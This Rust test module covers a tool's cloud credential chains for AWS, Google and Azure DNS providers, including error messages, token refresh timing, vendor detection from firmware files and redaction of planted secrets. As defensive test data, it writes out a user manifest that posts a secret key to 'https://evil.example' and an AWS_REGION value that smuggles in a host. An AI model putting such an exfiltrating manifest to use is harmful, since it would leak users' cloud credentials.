//! The chains: what is said where they lead nowhere, how long credentials are kept, which provider gets them. The vendors' own beside them are in
//! `compare`.

use std::{
    path::Path,
    sync::atomic::{AtomicI64, Ordering},
};

use jiff::Timestamp;

use super::*;
use crate::{
    environment::Environment,
    error::Retry,
    name::Name,
    provider::{manifest, registry::Registry},
};

mod compare;
mod server;

use self::server::Server;

/// A key that belongs to nobody.
const KEY: &str = include_str!("../../../../tests/data/pairs/rsa-pkcs8.key");

/// 2026-01-01T00:00:00Z.
const START: i64 = 1_767_225_600;

fn context() -> Context {
    let _ = rustls::crypto::ring::default_provider().install_default();
    Context { http: Http::new().unwrap(), redactor: Redactor::default() }
}

/// The chain of a provider over these variables, on a machine of no vendor, at a time that stands still.
fn chain(kind: Ambient, environment: Environment) -> Result<Chain, String> {
    chain_on(kind, environment, Path::new("/nonexistent"), &Arc::new(AtomicI64::new(START)))
}

fn chain_on(kind: Ambient, environment: Environment, firmware: &Path, clock: &Arc<AtomicI64>) -> Result<Chain, String> {
    let id = match kind {
        Ambient::Aws => "route53",
        Ambient::Google => "gcloud",
        Ambient::Azure => "azuredns",
    };
    let (_, text) = manifest::builtin().iter().find(|(known, _)| *known == id).unwrap();
    let description = manifest::describe_builtin(text).unwrap();
    let machine = machine(&description, &Settings::of_builtin(id, environment)).unwrap().with_firmware(firmware);
    let context = context();
    let mut chain = Chain::new(kind, machine, &context.http, &context.redactor)?;
    let clock = Arc::clone(clock);
    chain.fetcher.clock = Arc::new(move || Timestamp::from_second(clock.load(Ordering::SeqCst)).unwrap());
    Ok(chain)
}

/// Why a chain leads nowhere.
fn nowhere<const N: usize>(kind: Ambient, variables: [(&str, &str); N]) -> String {
    chain(kind, Environment::of(variables)).err().unwrap()
}

fn home(files: &[(&str, &str)]) -> tempfile::TempDir {
    let home = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let path = home.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    home
}

#[test]
fn a_machine_without_any_says_what_was_looked_for() {
    let said = nowhere(Ambient::Aws, []);
    for part in ["AWS_WEB_IDENTITY_TOKEN_FILE", "no profile", "AWS_CONTAINER_CREDENTIALS_FULL_URI", "no EC2 instance"] {
        assert!(said.contains(part), "{part} in {said}");
    }
    let said = nowhere(Ambient::Google, [("HOME", "/nonexistent")]);
    for part in ["GOOGLE_APPLICATION_CREDENTIALS", "application_default_credentials.json` does not exist", "none of Google's"] {
        assert!(said.contains(part), "{part} in {said}");
    }
    let said = nowhere(Ambient::Azure, []);
    for part in ["AZURE_FEDERATED_TOKEN_FILE", "IDENTITY_ENDPOINT", "none of Azure's"] {
        assert!(said.contains(part), "{part} in {said}");
    }
}

#[test]
fn what_was_meant_to_lead_somewhere_and_does_not_says_why() {
    let files = home(&[(
        ".aws/config",
        "[profile sso]\nsso_session = mine\n[profile mfa]\nrole_arn = r\nsource_profile = x\nmfa_serial = m\n[profile x]\n\
         [profile two]\nrole_arn = r\nsource_profile = x\ncredential_source = EcsContainer\n\
         [profile odd]\nrole_arn = r\ncredential_source = Telepathy\n[profile env]\nrole_arn = r\ncredential_source = Environment\n",
    )]);
    let at = files.path().to_str().unwrap();
    for (profile, part) in [
        ("sso", "credential_process = aws configure export-credentials --profile sso"),
        ("mfa", "mfa_serial"),
        ("two", "both `source_profile` and `credential_source`"),
        ("odd", "`Telepathy`"),
        ("env", "takes keys from variables, which are not set"),
        ("gone", "there is no profile `gone`"),
    ] {
        let said = nowhere(Ambient::Aws, [("HOME", at), ("AWS_PROFILE", profile)]);
        assert!(said.contains(part), "{part} in {said}");
    }
    let said = nowhere(Ambient::Aws, [("AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://192.0.2.1/x")]);
    assert!(said.contains("plain http to `192.0.2.1`"), "{said}");
    let web = [("AWS_WEB_IDENTITY_TOKEN_FILE", "/t"), ("AWS_ROLE_ARN", "r"), ("AWS_REGION", "evil.example/#")];
    assert!(nowhere(Ambient::Aws, web).contains("no region"));

    let files = home(&[("e.json", r#"{"type": "external_account", "x": "planted-secret"}"#), ("b.json", "{\"planted-secret")]);
    let name = |file: &str| files.path().join(file).to_str().unwrap().to_owned();
    let said = nowhere(Ambient::Google, [("GOOGLE_APPLICATION_CREDENTIALS", &name("e.json"))]);
    assert!(said.contains("external_account") && said.contains("acme.sh:dns_gcloud") && !said.contains("planted"), "{said}");
    let said = nowhere(Ambient::Google, [("GOOGLE_APPLICATION_CREDENTIALS", &name("b.json"))]);
    assert!(said.contains("is no JSON (line 1") && !said.contains("planted"), "{said}");
}

#[tokio::test]
async fn each_vendors_machine_is_known_by_its_firmware() {
    let firmware = home(&[
        ("nitro/sys_vendor", "Amazon EC2\n"),
        ("xen/bios_version", "4.11.amazon\n"),
        ("google/product_name", "Google Compute Engine\n"),
        ("azure/chassis_asset_tag", "7783-7084-3265-9085-8269-3286-77\n"),
        ("other/sys_vendor", "QEMU\n"),
    ]);
    let clock = Arc::new(AtomicI64::new(START));
    let leads = |kind, machine: &str| {
        chain_on(kind, Environment::default(), &firmware.path().join(machine), &clock).ok().map(|it| it.origin())
    };
    assert_eq!(leads(Ambient::Aws, "nitro").as_deref(), Some("the role of this EC2 instance"));
    assert!(leads(Ambient::Aws, "xen").is_some());
    assert_eq!(leads(Ambient::Google, "google").as_deref(), Some("the service account of this machine"));
    assert_eq!(leads(Ambient::Azure, "azure").as_deref(), Some("the managed identity of this machine"));
    for kind in [Ambient::Aws, Ambient::Google, Ambient::Azure] {
        assert_eq!(leads(kind, "other"), None);
    }
}

#[tokio::test]
async fn they_are_kept_and_replaced_before_they_expire() {
    let (server, clock) = (Server::start().await, Arc::new(AtomicI64::new(START)));
    let environment = Environment::of([("AZURE_POD_IDENTITY_AUTHORITY_HOST", &server.url)]);
    let chain = chain_on(Ambient::Azure, environment, Path::new("/nonexistent"), &clock).unwrap();
    server.manner.lock().unwrap().seconds = 3600;
    chain.current().await.unwrap();
    assert_eq!(server.take().len(), 1);
    clock.store(START + 2699, Ordering::SeqCst);
    chain.current().await.unwrap();
    assert!(server.take().is_empty());
    // A quarter of an hour before they expire.
    clock.store(START + 2701, Ordering::SeqCst);
    chain.current().await.unwrap();
    assert_eq!(server.take().len(), 1);
    // Where no others can be had, they serve to the end.
    server.manner.lock().unwrap().fails =
        Some((400, r#"{"error": "invalid_request", "error_description": "Identity not found"}"#));
    clock.store(START + 2701 + 3599, Ordering::SeqCst);
    assert_eq!(chain.current().await.unwrap()["session"].expose(), "managed-own-token");
    clock.store(START + 2701 + 3600, Ordering::SeqCst);
    let error = chain.current().await.unwrap_err();
    let text = error.to_string();
    assert_eq!((error.kind(), error.retry()), (ErrorKind::Credentials, Retry::Never));
    assert!(
        text.contains("the managed identity of this machine") && text.contains("400: invalid_request: Identity not found"),
        "{text}"
    );
}

#[tokio::test]
async fn a_failure_that_passes_is_waited_out() {
    let server = Server::start().await;
    {
        let mut manner = server.manner.lock().unwrap();
        (manner.fails, manner.failures) = (Some((503, "{}")), 1);
    }
    let chain =
        chain(Ambient::Aws, Environment::of([("AWS_CONTAINER_CREDENTIALS_FULL_URI", &format!("{}/container", server.url))]));
    assert_eq!(chain.unwrap().current().await.unwrap()["access_key"].expose(), "container-id");
    assert_eq!(server.take().len(), 2);
}

#[tokio::test]
async fn what_the_service_says_is_shown_and_no_secret() {
    let server = Server::start().await;
    let files = home(&[("token", "planted-token")]);
    let token = files.path().join("token");
    let environment = Environment::of([
        ("AWS_WEB_IDENTITY_TOKEN_FILE", token.to_str().unwrap()),
        ("AWS_ROLE_ARN", "arn:aws:iam::1:role/pod"),
        ("AWS_ENDPOINT_URL_STS", &server.url),
    ]);
    server.manner.lock().unwrap().fails = Some((
        400,
        "<ErrorResponse xmlns=\"x\"><Error><Type>Sender</Type><Code>InvalidIdentityToken</Code><Message>no key fits planted-token</Message></Error><RequestId>req-7</RequestId></ErrorResponse>",
    ));
    let pod = chain(Ambient::Aws, environment).unwrap();
    let error = pod.current().await.unwrap_err();
    let text = format!("{error} {error:?} {pod:?}");
    assert!(
        text.contains("role `arn:aws:iam::1:role/pod` for the token in")
            && text.contains("InvalidIdentityToken: no key fits [redacted]"),
        "{text}"
    );
    assert_eq!((error.request_id(), error.http_status()), (Some("req-7"), Some(400)));
    assert!(!text.contains("planted"), "{text}");

    // An instance without a role.
    let instance = Environment::of([("AWS_EC2_METADATA_SERVICE_ENDPOINT", &server.url)]);
    server.manner.lock().unwrap().fails = Some((404, "<html>"));
    assert!(chain(Ambient::Aws, instance).unwrap().current().await.is_err());
    // Credentials that are over.
    let container = Environment::of([("AWS_CONTAINER_CREDENTIALS_FULL_URI", &format!("{}/container", server.url))]);
    {
        let mut manner = server.manner.lock().unwrap();
        (manner.fails, manner.expires) = (None, "2025-01-01T00:00:00Z".to_owned());
    }
    let error = chain(Ambient::Aws, container).unwrap().current().await.unwrap_err().to_string();
    assert!(error.contains("expired already"), "{error}");
}

#[tokio::test]
async fn a_user_without_a_project_is_told_to_name_it() {
    let server = Server::start().await;
    let text = format!(
        r#"{{"type": "authorized_user", "client_id": "c", "client_secret": "s", "refresh_token": "r-1", "token_uri": "{}/token"}}"#,
        server.url
    );
    let files = home(&[(".config/gcloud/application_default_credentials.json", &text)]);
    let chain = chain(Ambient::Google, Environment::of([("HOME", files.path().to_str().unwrap())])).unwrap();
    let error = chain.current().await.unwrap_err();
    assert!(error.to_string().contains("which project") && error.hint().unwrap().contains("GCE_PROJECT"), "{error}");
}

/// Whose signature a call of Route 53 carries, with these variables.
async fn signed_by(server: &Server, more: &[(&str, &str)]) -> Result<String> {
    let environment = Environment::of([("DV_ROUTE53_BASE_URL", &format!("{}/2013-04-01", server.url))]);
    let environment = more.iter().fold(environment, |all, (name, value)| all.with(name, value));
    let registry = Registry::load(None).unwrap();
    let provider = registry.open(&Settings::of_builtin("route53", environment), &context())?;
    provider.locate(&Name::parse("_dv.example.com").unwrap()).await?;
    let asked = server.take();
    Ok(asked.last().unwrap().headers["authorization"].clone())
}

#[tokio::test]
async fn credentials_of_the_provider_itself_come_first() {
    let server = Server::start().await;
    let imds = ("AWS_EC2_METADATA_SERVICE_ENDPOINT", server.url.as_str());
    assert_eq!(signed_by(&server, &[imds]).await.unwrap(), "signed: imds-id/us-east-1/route53/aws4_request");
    let keys = [imds, ("AWS_ACCESS_KEY_ID", "own-id"), ("AWS_SECRET_ACCESS_KEY", "own-secret")];
    assert_eq!(signed_by(&server, &keys).await.unwrap(), "signed: own-id/us-east-1/route53/aws4_request");
    // Half of a pair is not filled up from elsewhere.
    let error = signed_by(&server, &keys[..2]).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Credentials);
    assert!(error.to_string().contains("`secret_key`"), "{error}");
    // A profile of the instance's own.
    let files = home(&[(".aws/credentials", "[work]\naws_access_key_id = work-id\naws_secret_access_key = s\n")]);
    let work = [imds, ("HOME", files.path().to_str().unwrap()), ("DV_ROUTE53_PROFILE", "work")];
    assert_eq!(signed_by(&server, &work).await.unwrap(), "signed: work-id/us-east-1/route53/aws4_request");
    assert!(server.take().is_empty());
}

#[tokio::test]
async fn where_there_are_none_both_ways_are_named() {
    let server = Server::start().await;
    let error = signed_by(&server, &[("AWS_EC2_METADATA_DISABLED", "true")]).await.unwrap_err();
    let text = error.to_string();
    assert!(
        text.contains("`access_key`, `secret_key`; and the machine has none: variable `AWS_WEB_IDENTITY_TOKEN_FILE`"),
        "{text}"
    );
    assert!(error.hint().unwrap().contains("AWS_ACCESS_KEY_ID"));
    let error = signed_by(&server, &[("AWS_PROFILE", "nobody")]).await.unwrap_err();
    assert!(error.to_string().contains("no profile `nobody`"), "{error}");
}

#[test]
fn no_manifest_of_a_user_gets_them() {
    let text = "id = \"mine\"\ntitle = \"Mine\"\nbase_url = \"https://evil.example\"\nttl = 60\nremoval = false\nambient = \"aws\"\n\
        [credentials]\naccess_key = {}\nsecret_key = { secret = true }\nsession_token = { secret = true, optional = true }\n\
        [create]\nhttp = \"POST /\"\njson = { stolen = \"{{ cred.secret_key }}\" }\n";
    let error = Manifest::parse(text, "mine.toml", false).unwrap_err().to_string();
    assert!(error.contains("mine.toml:6:11") && error.contains("for built-in manifests"), "{error}");
    // The same without the key asks for its own variables, whatever the machine has.
    let files = home(&[("mine.toml", &text.replace("ambient = \"aws\"\n", ""))]);
    let environment = Environment::of([
        ("AWS_EC2_METADATA_SERVICE_ENDPOINT", "http://127.0.0.1:9"),
        ("AWS_ACCESS_KEY_ID", "id"),
        ("AWS_SECRET_ACCESS_KEY", "planted-secret"),
    ]);
    let path = files.path().join("mine.toml");
    let mut settings = Settings::of_builtin(path.to_str().unwrap(), environment);
    let error = Registry::load(None).unwrap().open(&settings, &context()).err().unwrap();
    assert!(error.to_string().contains("`access_key`, `secret_key`"), "{error}");
    settings.id = "mine".to_owned();
    let error = Registry::load(Some(files.path())).unwrap().open(&settings, &context()).err().unwrap();
    assert!(error.to_string().contains("`access_key`, `secret_key`"), "{error}");
}
